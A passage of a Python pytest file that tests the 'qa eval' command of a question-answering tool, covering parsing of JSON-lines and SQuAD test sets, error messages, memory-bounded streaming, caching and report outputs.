"""`qa eval`: test-set parsing, SQuAD input and its cache, outputs, `--compare`, and real runs.

Fast tests use the hashing embedder (plumbing); the `slow` ones run the real model end to
end through `cli.main`.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from qa import cli, eval_report, evaluation
from qa.config import MAX_QUESTION_CHARS, Settings
from qa.errors import QAError
from qa.metrics import Scored
from qa.nlp import QuestionInfo
from qa.pipeline import Pipeline
from qa.testset import Item, Problem, load_testset, parse_jsonl, parse_squad
from qa.types import Answer
from tests.conftest import SEEDS, HashingEmbedder

ROOT = Path(__file__).resolve().parents[1]
SMALL_SQUAD = ROOT / "tests" / "data" / "squad_small.json"
ENV = {**os.environ, "HF_HUB_OFFLINE": "1"}


def _squad(tmp_path: Path, data: Any, name: str = "set.json") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(data) if not isinstance(data, str) else data, encoding="utf-8")
    return path


def _small() -> dict[str, Any]:
    return json.loads(SMALL_SQUAD.read_text(encoding="utf-8"))


# -- parsing ---------------------------------------------------------------------------------


def test_jsonl_bad_lines_are_reported_with_numbers() -> None:
    lines = [
        '{"id": "a", "question": "Q?", "answers": ["x", "x"], "kind": "factual"}',
        "not json",
        '{"id": "b", "question": "   ", "answers": []}',
        '{"id": "c", "question": "Q2?", "answers": "x"}',
        "",
        '{"id": "d", "question": "Q3?", "answers": [], "history": ["h"], "extra": 1}',
        "[1, 2]",
        json.dumps({"id": "e", "question": "x" * (MAX_QUESTION_CHARS + 1), "answers": []}),
        '{"id": "a", "question": "Again?", "answers": []}',
        '{"id": "f", "q": "Who?", "answers": []}',
        '{"id": "g", "question": 7, "answers": []}',
    ]
    items, problems = parse_jsonl(lines)
    assert [i.id for i in items] == ["a", "d"]
    assert items[0].answers == ("x",) and items[0].kind == "factual"
    assert items[1].history == ("h",) and items[1].where == "line 6"
    assert [p.where for p in problems] == ["line 2", "line 3", "line 4", "line 7", "line 8",
                                           "line 9", "line 10", "line 11"]
    assert problems[1].message == "the question is empty"
    assert problems[4].message == (f"the question is too long ({MAX_QUESTION_CHARS + 1} "
                                   f"characters; at most {MAX_QUESTION_CHARS})")
    assert "duplicate id 'a'" in problems[5].message
    assert str(problems[6]) == "line 10: missing 'question'"
    assert str(problems[7]) == "line 11: 'question' must be a string"


def test_a_blank_gold_answer_or_id_in_jsonl_is_a_problem() -> None:
    """`"answers": [""]` was read as answerable with a gold no answer can match: SQuAD's rule
    (a gold that normalises to nothing is "no answer") then scored an abstention as exact
    among HasAns, while `right` counted it a miss; a user who meant "unanswerable" got wrong
    HasAns/NoAns splits and abstention rates without a word. A blank id passed as an id, and
    a row without "answers" (say "answer") was told "'answers' must be a list of strings"."""
    lines = [json.dumps({"id": "a", "question": "Who?", "answers": [""]}),
             json.dumps({"id": "b", "question": "Who?", "answers": ["Paul", " \t"]}),
             json.dumps({"id": "  ", "question": "Who?", "answers": []}),
             json.dumps({"id": "c", "question": "Who?", "answers": ["the"]}),
             json.dumps({"id": "d", "question": "Who?", "answer": "Paul"})]
    items, problems = parse_jsonl(lines)
    assert [i.id for i in items] == ["c"]  # not blank: normalised by the SQuAD rule, as there
    blank = ("'answers' holds a blank answer (a question the documents cannot answer has "
             '"answers": [])')
    assert [str(p) for p in problems] == [
        f"line 1: {blank}", f"line 2: {blank}", "line 3: 'id' must be a non-empty string",
        "line 5: missing 'answers' (the gold answers; [] when the documents cannot answer)"]


def test_a_bad_question_reads_the_same_in_the_test_set_and_in_the_run(
        fake_pipeline: Pipeline) -> None:
    """Parsing a test set said "the question is blank" where the run (the check every `ask`
    makes) said "the question is empty"; and a question of only zero-width characters
    passed the parse, to be refused by the run. Both now call `clean_question`."""
    bad = ["   ", "\u200b\ufeff", " \x00\t ", "x" * (MAX_QUESTION_CHARS + 1)]
    lines = [json.dumps({"id": str(n), "question": q, "answers": []})
             for n, q in enumerate(bad)]
    items, problems = parse_jsonl(lines)
    assert items == []
    squad = _small()
    squad["data"][0]["paragraphs"][0]["qas"] = [
        {"id": f"s{n}", "question": q, "answers": []} for n, q in enumerate(bad)]
    _, _, squad_problems = parse_squad(squad)
    run: list[Problem] = []
    metrics, _ = evaluation.evaluate(fake_pipeline, [Item(str(n), q, ()) for n, q in
                                                     enumerate(bad)], on_problem=run.append)
    assert metrics["skipped"] == len(bad)
    empty = "the question is empty"
    too_long = (f"the question is too long ({MAX_QUESTION_CHARS + 1} characters; "
                f"at most {MAX_QUESTION_CHARS})")
    expected = [empty, empty, empty, too_long]
    assert [p.message for p in problems] == expected
    assert [p.message for p in squad_problems] == expected
    assert [p.message for p in run] == expected


def test_unicode_line_separators_inside_a_jsonl_string_do_not_split_the_line(
        tmp_path: Path) -> None:
    """JSON allows U+2028, U+2029 and U+0085 raw in a string, and `json.dumps(...,
    ensure_ascii=False)` writes them so; `str.splitlines` cut such lines in two, so every
    such question was "not valid JSON" and the line numbers after it were wrong."""
    rows = [{"id": "a", "question": "Who founded\u2028the bakery?", "answers": ["Agnes"]},
            {"id": "b", "question": "Who runs it\x85now?", "answers": ["Paul\u2029Moreau"]},
            {"id": "c", "question": "When did it open?", "answers": ["1987"]}]
    text = "".join(json.dumps(r, ensure_ascii=False) + "\r\n" for r in rows) + "{broken\r\n"
    testset = load_testset(_squad(tmp_path, text, "set.jsonl"))
    assert [(i.id, i.where) for i in testset.items] == [("a", "line 1"), ("b", "line 2"),
                                                        ("c", "line 3")]
    assert testset.items[1].answers == ("Paul\u2029Moreau",)
    assert [str(p) for p in testset.problems] == ["line 4: not valid JSON (Expecting "
                                                  "property name enclosed in double quotes)"]
    old_mac = "\r".join(json.dumps(r) for r in rows)  # carriage returns alone still split
    assert len(load_testset(_squad(tmp_path, old_mac, "mac.jsonl")).items) == 3


def test_squad_articles_become_documents_and_questions_items() -> None:
    articles, items, problems = parse_squad(_small())
    assert problems == []
    assert [a.doc_id for a in articles] == ["Greywater_Lighthouse", "Marrow_Valley_Railway"]
    text = articles[0].text()
    assert text.startswith("Greywater Lighthouse\n\nThe Greywater Lighthouse stands")
    assert "\n\nThe tower is 31 metres tall" in text
    assert len(items) == 12 and sum(not i.answers for i in items) == 4
    by_id = {i.id: i for i in items}
    assert by_id["gw1"].answers == ("Matilda Crane",) and by_id["gw3"].answers == ()
    assert by_id["gw1"].where == "data[0].paragraphs[0].qas[0]"


def test_squad_bad_questions_are_located_and_bad_shapes_fail() -> None:
    data = _small()
    qas = data["data"][1]["paragraphs"][1]["qas"]
    del qas[0]["id"]
    qas[1]["answers"] = "Countess Mary"
    qas[2]["question"] = ""
    del data["data"][0]["paragraphs"][1]["qas"][0]["question"]
    data["data"][0]["paragraphs"][0]["qas"][1]["id"] = "gw1"  # duplicate
    _, items, problems = parse_squad(data)
    assert len(items) == 7
    wheres = [str(p) for p in problems]
    assert wheres[1] == "data[0].paragraphs[1].qas[0] (id 'gw4'): missing 'question'"
    del wheres[1]
    assert wheres[0].startswith("data[0].paragraphs[0].qas[1] (id 'gw1'): duplicate id")
    assert wheres[1] == "data[1].paragraphs[1].qas[0]: the question has no 'id'"
    assert wheres[2].startswith("data[1].paragraphs[1].qas[1] (id 'mv5'): 'answers'")
    assert wheres[3] == "data[1].paragraphs[1].qas[2] (id 'mv6'): the question is empty"

    with pytest.raises(QAError, match="'data' list"):
        parse_squad({"data": {"title": "x"}})
    with pytest.raises(QAError, match=r"^data\[1\]: an article"):
        parse_squad({"data": [_small()["data"][0], {"title": "No paragraphs"}]})
    broken = _small()
    broken["data"][0]["paragraphs"][1]["context"] = 7
    with pytest.raises(QAError, match=r"^data\[0\]\.paragraphs\[1\]: a paragraph"):
        parse_squad(broken)


def test_squad_golds_not_in_their_paragraph_are_noted_and_impossible_with_answers_refused(
        tmp_path: Path) -> None:
    """A gold answer its paragraph does not hold (a typo, an accent dropped) was scored
    silently, so no prediction could match it; `is_impossible: true` with answers was
    quietly unanswerable, where the official script scores it by its answers."""
    data = _small()
    qas = data["data"][0]["paragraphs"][0]["qas"]
    qas[0]["answers"] = [{"text": "matilda  CRANE,", "answer_start": 0},  # same once normalised
                         {"text": "Matilda Crain", "answer_start": 127}]
    qas[1]["answers"][0]["answer_start"] = 3  # offsets are not used: not a note
    qas[2]["answers"] = [{"text": "red", "answer_start": 0}]
    testset = load_testset(_squad(tmp_path, data))
    assert [str(n) for n in testset.notes] == [
        "data[0].paragraphs[0].qas[0] (id 'gw1'): gold answer 'Matilda Crain' is not in its "
        "paragraph (scored as given)"]
    assert [str(p) for p in testset.problems] == [
        "data[0].paragraphs[0].qas[2] (id 'gw3'): 'is_impossible' is true but 'answers' is "
        "not empty"]
    assert load_testset(SMALL_SQUAD).notes == ()


@pytest.mark.slow  # a measurement (memory, time): the fast tier stays under 15 s
def test_a_jsonl_test_set_is_read_a_line_at_a_time_not_whole(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A JSON-lines file was read whole (bytes, then a decoded copy, then its lines): a
    120 MB file took about 720 MB before the first question. It is now read a line at a
    time, with its SHA-256 taken as the lines pass, and --limit keeps only what it asks."""
    rows = [{"id": f"q{n}", "kind": "factual", "question": f"Who wrote report {n} of the year?",
             "answers": [f"author {n}"], "history": ["Which report?"] if n % 3 else []}
            for n in range(3_000)]
    text = "\ufeff" + "".join(json.dumps(r) + ("\r\n" if n % 2 else "\n")
                              for n, r in enumerate(rows))
    path = _squad(tmp_path, text, "big.jsonl")
    whole = load_testset(path)  # before the file reads are forbidden: the reference
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("read whole"))
    monkeypatch.setattr(Path, "read_text", lambda self, *a, **k: pytest.fail("read whole"))
    streamed = load_testset(path)
    assert streamed == whole and len(streamed.items) == 3_000
    import tracemalloc

    with open(path, "rb") as fh:
        assert streamed.sha256 == hashlib.sha256(fh.read()).hexdigest()
    peaks = []
    for limit in (None, 10):
        tracemalloc.start()
        try:
            limited = load_testset(path, limit=limit)
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
    assert [i.id for i in limited.items] == [f"q{n}" for n in range(10)]
    assert peaks[1] < peaks[0] / 2, peaks  # the ids seen (duplicates), not the file or items


def test_a_jsonl_line_too_long_for_a_question_is_a_problem_and_bad_bytes_name_their_offset(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from qa import testset as testset_module

    monkeypatch.setattr(testset_module, "MAX_LINE_BYTES", 1000)
    good = json.dumps({"id": "a", "question": "Who?", "answers": []})
    long = json.dumps({"id": "b", "question": "Who " + "x" * 3000 + "?", "answers": []})
    text = f"{good}\n{long}\n{good.replace('a', 'c', 1)}\n"
    testset = load_testset(_squad(tmp_path, text, "long.jsonl"))
    assert [i.id for i in testset.items] == ["a", "c"]
    assert [str(p) for p in testset.problems] == [
        "line 2: the line is longer than 1,000 bytes"]
    bad = tmp_path / "bad.jsonl"
    bad.write_bytes(good.encode() + b"\n" + b'{"question": "Wh\xe9?"}\n')
    with pytest.raises(QAError, match=f"bad byte at offset {len(good) + 1 + 16}\\)"):
        load_testset(bad)


def test_what_a_run_keeps_of_a_jsonl_test_set_is_bounded(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every question (about 0.9 KB a question with its outcome) and every bad line of a
    file was kept: a 512 MB file of short lines needed several GB. Past MAX_QUESTIONS the
    run stops with one line that points to --limit; past MAX_PROBLEMS bad lines, likewise."""
    from qa import testset as testset_module

    monkeypatch.setattr(testset_module, "MAX_QUESTIONS", 5)
    monkeypatch.setattr(testset_module, "MAX_PROBLEMS", 3)
    rows = "".join(json.dumps({"id": str(n), "question": "Who?", "answers": []}) + "\n"
                   for n in range(8))
    path = _squad(tmp_path, rows, "many.jsonl")
    with pytest.raises(QAError) as error:
        load_testset(path)
    assert str(error.value) == (f"test set {str(path)!r}: it holds more than 5 questions, more "
                                "than one run keeps: ask it in parts (--limit N)")
    assert len(load_testset(path, limit=5).items) == 5
    bad = _squad(tmp_path, "not json\n" * 4, "bad.jsonl")
    with pytest.raises(QAError) as error:
        load_testset(bad)
    assert str(error.value) == (f"test set {str(bad)!r}: it has more than 3 bad lines (the "
                                "first: line 1: not valid JSON (Expecting value)): is it a "
                                "JSON-lines test set?")
    assert len(load_testset(_squad(tmp_path, "not json\n" * 3, "ok.jsonl")).problems) == 3


def _many_articles(articles: int, paragraphs: int = 10) -> dict[str, Any]:
    """A SQuAD 2.0 file of `articles` articles, six questions per paragraph."""
    data = []
    for a in range(articles):
        rows = []
        for p in range(paragraphs):
            context = f"Paragraph {p} of article {a}: " + "the river ran by the old mill. " * 8
            rows.append({"context": context, "qas": [
                {"id": f"{a}-{p}-{q}", "question": f"What ran by the mill {q} times?",
                 "answers": [{"text": "the river", "answer_start": 0}], "is_impossible": False}
                for q in range(6)]})
        data.append({"title": f"Article_{a}", "paragraphs": rows})
    return {"version": "v2.0", "data": data}


@pytest.mark.slow  # a measurement (memory, time): the fast tier stays under 15 s
def test_a_squad_file_is_read_an_article_at_a_time(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A SQuAD file was parsed whole (json.loads): about twice its size more than the
    questions and articles it yields (here 3x), so it had a cap of its own (128 MB). It is read an
    article at a time now: beyond what it yields, memory holds a block and one article. One
    article has a cap (a clear error naming it); the file has the test-set cap only."""
    import tracemalloc

    from qa import testset as testset_module

    stream = getattr(testset_module, "_JsonStream", testset_module)
    monkeypatch.setattr(stream, "BLOCK", 1 << 16, raising=False)
    data = _many_articles(160)
    path = _squad(tmp_path, data, "big.json")
    size = path.stat().st_size
    tracemalloc.start()
    try:
        testset = load_testset(path)
        kept, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(testset.items) == 160 * 60 and len(testset.articles) == 160
    assert testset.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert peak - kept < size / 2, f"{size:,} bytes read with a peak {peak - kept:,} over"
    assert parse_squad(data) == (testset.articles, testset.items, testset.problems)

    # what a run keeps is bounded as for JSON lines: the questions kept, the bad ones
    monkeypatch.setattr(testset_module, "MAX_QUESTIONS", 1000)
    assert len(load_testset(path, limit=1000).items) == 1000
    with pytest.raises(QAError, match=r"^test set '.*big.json': it holds more than 1,000 "
                                      r"questions, more than one run keeps"):
        load_testset(path)

    monkeypatch.setattr(testset_module, "MAX_ARTICLE_CHARS", 20_000, raising=False)
    data["data"][1]["paragraphs"] *= 10
    with pytest.raises(QAError, match=r"^test set '.*big.json': data\[1\] is larger than "
                                      r"20,000 characters of JSON; split it$"):
        load_testset(_squad(tmp_path, data, "big.json"))


def test_a_damaged_squad_file_is_named_as_json_names_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Read in blocks (here of 7 bytes, so that every token is cut somewhere), a truncated
    or damaged SQuAD file gets json's own message, placed in the whole file; a byte that is
    not UTF-8 is named by its offset, whichever block it is in."""
    from qa import testset as testset_module

    monkeypatch.setattr(testset_module._JsonStream, "BLOCK", 7)
    text = SMALL_SQUAD.read_text(encoding="utf-8")
    path = tmp_path / "cut.json"
    for end in [*range(1, len(text), 23), len(text) - 2]:
        path.write_text(text[:end], encoding="utf-8")
        try:
            json.loads(text[:end])
        except ValueError as exc:
            with pytest.raises(QAError) as raised:
                load_testset(path)
            assert str(raised.value) == f"{str(path)!r} is not valid JSON ({exc})"
    for damaged, message in ((text.replace('"qas": [', '"qas": [,', 1), "Expecting value"),
                             (text + "{}", "Extra data"),
                             (text.replace('",\n     "qas"', '"\n     "qas"', 1),
                              "Expecting ',' delimiter"),
                             ("{" + text[1:].replace('"data"', "data", 1),
                              "Expecting property name enclosed in double quotes")):
        path.write_text(damaged, encoding="utf-8")
        with pytest.raises(json.JSONDecodeError, match=message) as expected:
            json.loads(damaged)
        with pytest.raises(QAError) as raised:
            load_testset(path)
        assert str(raised.value) == f"{str(path)!r} is not valid JSON ({expected.value})"
    at = text.index("Orran") + 3
    path.write_bytes(text[:at].encode() + b"\xe9" + text[at:].encode())
    with pytest.raises(QAError, match=rf"is not UTF-8 text \(bad byte at offset {at}\)$"):
        load_testset(path)
    assert load_testset(SMALL_SQUAD) == load_testset(_squad(tmp_path, text, "whole.json"))
    # json.loads kept the last of two 'data' lists: the first's articles went unasked
    twice = _squad(tmp_path, text.rstrip()[:-1] + ', "data": []}', "twice.json")
    with pytest.raises(QAError, match=r"^test set '.*twice.json' has a second 'data' list"):
        load_testset(twice)


def test_testset_format_is_told_by_content(tmp_path: Path) -> None:
    assert load_testset(SMALL_SQUAD).format == "squad"
    jsonl = tmp_path / "set.txt"
    jsonl.write_text('{"question": "Q?", "answers": []}\n', encoding="utf-8")
    assert load_testset(jsonl).format == "jsonl"
    with pytest.raises(QAError, match="is not valid JSON"):
        load_testset(_squad(tmp_path, '{"data": [', "bad.json"))
    with pytest.raises(QAError, match="not a SQuAD file"):
        load_testset(_squad(tmp_path, [1, 2], "list.json"))
    latin = tmp_path / "latin.json"
    latin.write_bytes(b'{"data": "\xe9"}')
    with pytest.raises(QAError, match="not UTF-8"):
        load_testset(latin)


def test_a_jsonl_line_with_a_data_key_is_a_question_not_squad(tmp_path: Path) -> None:
    row = {"id": "1", "question": "Who is the Pentagon spokesman?", "answers": ["Kirby"],
           "data": {"source": "manual"}}
    for name in ("one.jsonl", "one.txt"):  # .jsonl by name; .txt: not SQuAD-shaped
        testset = load_testset(_squad(tmp_path, json.dumps(row) + "\n", name))
        assert testset.format == "jsonl" and [i.id for i in testset.items] == ["1"]
    row["data"] = [{"title": "T"}]  # a list, but of no articles with paragraphs
    assert load_testset(_squad(tmp_path, json.dumps(row), "list.txt")).format == "jsonl"
    squad_text = SMALL_SQUAD.read_text(encoding="utf-8")
    assert load_testset(_squad(tmp_path, squad_text, "squad.txt")).format == "squad"
    assert load_testset(_squad(tmp_path, squad_text, "squad.jsonl")).format == "jsonl"


def test_json_lines_in_a_json_file_are_read_as_json_lines(tmp_path: Path) -> None:
    """Hugging Face's `Dataset.to_json("dev.json")` and pandas' `to_json(..., lines=True)`
    write JSON lines whatever the file is called: a `.json` file had to be one SQuAD object,
    so such a test set was refused ("not a SQuAD file"). A `.json` file whose first line is a
    JSON object of its own, followed by more, cannot be one JSON value: it is JSON lines."""
    rows = [{"id": "1", "question": "Who is the Pentagon spokesman?", "answers": ["Kirby"]},
            {"id": "2", "question": "How many troops?", "answers": ["2,500"]}]
    lines = "".join(json.dumps(r) + "\n" for r in rows)
    testset = load_testset(_squad(tmp_path, lines, "set.json"))
    assert testset.format == "jsonl" and [i.id for i in testset.items] == ["1", "2"]
    hf = _hf_row("a1", "T", "The keeper is Ada.", "Who is the keeper?", ["Ada"])
    assert load_testset(_squad(tmp_path, json.dumps(hf) + "\n" + json.dumps(
        {**hf, "id": "a2"}) + "\n", "dev.json")).format == "squad"
    squad = SMALL_SQUAD.read_text(encoding="utf-8")  # one SQuAD object, however laid out
    assert load_testset(_squad(tmp_path, squad, "a.json")).format == "squad"
    assert load_testset(_squad(tmp_path, json.dumps(json.loads(squad)) + "\n",
                               "b.json")).format == "squad"
    with pytest.raises(QAError, match="not a SQuAD file"):
        load_testset(_squad(tmp_path, json.dumps(rows[0]) + "\n", "one.json"))


# -- the command, with the hashing embedder ---------------------------------------------------


@pytest.fixture
def fake_model(monkeypatch: pytest.MonkeyPatch) -> list[Settings]:
    """Every Pipeline the eval command makes uses the hashing embedder; records its settings."""
    made: list[Settings] = []
    monkeypatch.setenv("QA_SPACY", "none")  # no model in the fast tier

    def make(settings: Settings, embedder: Any = None) -> Pipeline:
        made.append(settings)
        return Pipeline(settings, embedder or HashingEmbedder())

    monkeypatch.setattr(evaluation, "Pipeline", make)
    return made


def _write_set(tmp_path: Path, rows: list[dict[str, Any]]) -> Path:
    """`rows` as a JSON-lines test set, `set.jsonl` under `tmp_path`."""
    testset = tmp_path / "set.jsonl"
    testset.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return testset


def _main(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_squad_run_streams_outputs_and_reuses_its_cache(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs
    data = _small()
    del data["data"][0]["paragraphs"][0]["qas"][2]["id"]  # a bad question: skipped, counted
    testset = _squad(tmp_path, data)
    out, table, report = tmp_path / "o" / "p.jsonl", tmp_path / "o" / "p.csv", tmp_path / "r.html"
    code, stdout, stderr = _main(
        capsys, "eval", str(testset), "--model", "fake-hashing", "--json", "--out", str(out),
        "--csv", str(table), "--report", str(report), "--metrics-out", str(tmp_path / "m.json"))
    assert code == 0, stderr
    assert "data[0].paragraphs[0].qas[2]: the question has no 'id' (skipped)" in stderr
    metrics = json.loads(stdout)
    assert metrics["questions"] == 11 and metrics["skipped"] == 1
    assert metrics["total"] == 11 and metrics["NoAns_total"] == 3
    assert metrics["citation_exact"] == 1.0
    assert json.loads((tmp_path / "m.json").read_text(encoding="utf-8")) == metrics

    predictions = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(predictions) == 11
    first = predictions[0]
    assert {"id", "question", "gold", "prediction", "answer", "lead", "abstained",
            "no_answer_probability", "citations", "latency_ms"} <= set(first)
    assert first["no_answer_probability"] == pytest.approx(1 - first["confidence"], abs=1e-4)
    # Every cited span is an exact slice of the document file the cache holds.
    docs = Path(fake_model[-1].seeds_dir)
    assert docs.parent.parent == tmp_path / "cache" / "eval"
    for p in predictions:
        for c in p["citations"]:
            source = (docs / f"{c['doc_id']}.txt").read_text(encoding="utf-8")
            assert source[c["quote"]["start"]:c["quote"]["end"]] == c["quote"]["text"]
    rows = list(csv.DictReader(table.open(encoding="utf-8-sig", newline="")))
    assert [r["id"] for r in rows] == [p["id"] for p in predictions]
    assert json.loads(rows[0]["gold"]) == first["gold"]
    assert set(rows[0]) == set(first) | {"kind"}  # --out's fields ("kind" when there is one)
    assert rows[0]["text"] == first["text"]
    assert json.loads(rows[0]["passages"]) == [
        {k: v for k, v in p.items() if k != "text"} for p in first["passages"]]
    html_text = report.read_text(encoding="utf-8")
    assert "<h2>By kind</h2>" in html_text and "unanswerable" in html_text
    assert "Confidence reliability" in html_text and "Skipped bad questions: 1" in html_text
    assert not [p for p in (tmp_path / "o").iterdir() if p.name.startswith(".")]  # no temps

    # A second run reuses the cached documents and index; a changed file gets a new key.
    cached = sorted((tmp_path / "cache" / "eval").iterdir())
    assert len(cached) == 1 and (cached[0] / "corpus.json").is_file()
    build = evaluation.build_corpus
    monkeypatch.setattr(evaluation, "build_corpus", lambda *a: pytest.fail("rebuilt"))
    assert _main(capsys, "eval", str(testset), "--model", "fake-hashing")[0] == 0
    monkeypatch.setattr(evaluation, "build_corpus", build)
    data["data"][0]["paragraphs"][0]["context"] += " It has a red door."
    _squad(tmp_path, data)
    assert _main(capsys, "eval", str(testset), "--model", "fake-hashing")[0] == 0
    assert len(list((tmp_path / "cache" / "eval").iterdir())) == 2


def test_a_squad_corpus_holds_only_its_articles_whatever_qa_data_says(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """With QA_DATA naming the user's uploaded library, `qa eval squad.json` indexed those
    documents with the articles (answers quoted them) and cached that index under the file's
    hash, so later runs kept them even without QA_DATA."""
    library = tmp_path / "library"
    shutil.copytree(SEEDS, tmp_path / "seeds")
    Pipeline(Settings(model="fake-hashing", seeds_dir=tmp_path / "seeds", index_dir=tmp_path /
                      "index", data_dir=library, spacy="none"), HashingEmbedder()) \
        .add_documents([ROOT / "tests" / "data" / "docs" / "kestrel-lighthouse.html"])
    assert any(library.iterdir())
    monkeypatch.setenv("QA_DATA", str(library))
    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))
    code, _, stderr = _main(capsys, "eval", str(SMALL_SQUAD), "--model", "fake-hashing")
    assert code == 0, stderr
    corpus = fake_model[-1]
    assert corpus.documents_dir.parent == corpus.seeds_dir.parent  # inside the cache entry
    index = Pipeline(corpus, HashingEmbedder()).index
    assert sorted(index.documents) == ["Greywater_Lighthouse", "Marrow_Valley_Railway"]


def test_squad_text_no_document_can_hold_is_refused_and_a_skipped_article_fails(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A lone surrogate ("\\ud800" in JSON) in a gold answer crashed the run when --out was
    written ("internal error: UnicodeEncodeError"), and in a context when the article was;
    a NUL in a context made the loader skip the article as "binary data" (one log line), so
    its questions were scored against the other articles, exit 0. The same for any article
    the loader refuses (too large...): the run now fails before publishing the cache."""
    from qa.loaders import text as text_loader
    from qa.loaders.base import BadDocument

    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))
    rows = [{"id": "s", "question": "When?", "answers": ["1987 \udc00"]},
            {"id": "\ud800", "question": "When?", "answers": []}]
    items, problems = parse_jsonl([json.dumps(r) for r in rows])
    assert items == [] and [str(p) for p in problems] == [
        "line 1: 'answers' is not valid text (a lone surrogate)",
        "line 2: 'id' or 'kind' is not valid text (a lone surrogate)"]
    data = _small()
    data["data"][0]["paragraphs"][0]["qas"][0]["answers"][0]["text"] += "\udc00"
    assert [p.message for p in parse_squad(data)[2]] == [
        "'answers' is not valid text (a lone surrogate)"]
    for bad in ("\x00", "\ud800"):
        data = _small()
        data["data"][1]["paragraphs"][1]["context"] += bad
        path = _squad(tmp_path, data)
        code, _, stderr = _main(capsys, "eval", str(path))
        assert code == 1 and stderr == (f"qa: error: test set {str(path)!r}: "
                                        "data[1].paragraphs[1].context: not valid "
                                        "text (a lone surrogate or a NUL character)\n")
    assert fake_model == []  # refused before any model or index

    extract = text_loader.TextLoader.extract

    def refuse(self: Any, raw: bytes, name: str) -> Any:
        if name.startswith("Marrow"):
            raise BadDocument(f"{name}: the file is too large (simulated)")
        return extract(self, raw, name)

    monkeypatch.setattr(text_loader.TextLoader, "extract", refuse)
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)
    code, _, stderr = _main(capsys, "eval", str(SMALL_SQUAD), "--out", str(tmp_path / "p.jsonl"))
    assert code == 1, stderr
    assert stderr.splitlines()[-1] == ("qa: error: 1 article(s) could not be indexed (first: "
                                       "'Marrow Valley Railway'; see above)")
    assert list((tmp_path / "cache" / "eval").iterdir()) == []  # nothing published
    assert not (tmp_path / "p.jsonl").exists()


def test_failed_build_leaves_nothing_in_the_cache(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("QA_CACHE_DIR", str(tmp_path / "cache"))

    class Exploding(Pipeline):
        def rebuild(self) -> Any:
            raise QAError("disk full (simulated)")

    monkeypatch.setattr(evaluation, "Pipeline",
                        lambda s, embedder=None: Exploding(s, embedder or HashingEmbedder()))
    code, _, err = _main(capsys, "eval", str(SMALL_SQUAD), "--out", str(tmp_path / "p.jsonl"))
    assert code == 1 and err.strip() == "qa: error: disk full (simulated)"
    assert list((tmp_path / "cache" / "eval").iterdir()) == []
    assert list(tmp_path.glob("*.jsonl")) == [] and list(tmp_path.glob(".p.jsonl*")) == []


def test_jsonl_run_skips_bad_items_and_strict_fails_before_the_model(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs
    lines = [json.dumps({"id": "1", "question": "How many American troops are in Iraq today?",
                         "answers": ["around 2,500"], "kind": "factual"}),
             json.dumps({"id": "2", "question": "What is the capital of France?",
                         "answers": [], "kind": "unanswerable"}),
             json.dumps({"id": "3", "question": "x" * (MAX_QUESTION_CHARS + 5), "answers": []}),
             "{broken"]
    testset = tmp_path / "set.jsonl"
    testset.write_text("\n".join(lines) + "\n", encoding="utf-8")
    seeds = tmp_path / "seeds"
    shutil.copytree(SEEDS, seeds)
    base = ["eval", str(testset), "--seeds", str(seeds), "--index", str(tmp_path / "index"),
            "--model", "fake-hashing"]
    code, stdout, stderr = _main(capsys, *base, "--json", "--report", str(tmp_path / "r.md"))
    assert code == 0, stderr
    assert "line 3: the question is too long" in stderr and "line 4: not valid JSON" in stderr
    metrics = json.loads(stdout)
    assert metrics["questions"] == 2 and metrics["skipped"] == 2
    report = (tmp_path / "r.md").read_text(encoding="utf-8")
    assert "| factual | 1 |" in report and "| unanswerable | 1 |" in report
    assert not list(tmp_path.glob(".r.md*"))  # the report's private predictions are gone

    fake_model.clear()
    code, _, stderr = _main(capsys, *base, "--strict")
    assert code == 1 and "2 bad question(s)" in stderr and "(first: line 3:" in stderr
    assert fake_model == []  # failed before any model or index was made


def test_a_run_that_could_ask_no_question_fails_and_writes_nothing(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Every question refused by the run's own check (content-free) or failing: `qa eval`
    exited 0 with a metric object of zeros (and citation_exact 1.0) and wrote it out, where
    a test set with no question at all is an error."""
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs
    testset = tmp_path / "set.jsonl"
    testset.write_text(json.dumps({"id": "a", "question": "?!", "answers": []}) + "\n"
                       + json.dumps({"id": "b", "question": "\U0001f600", "answers": ["x"]})
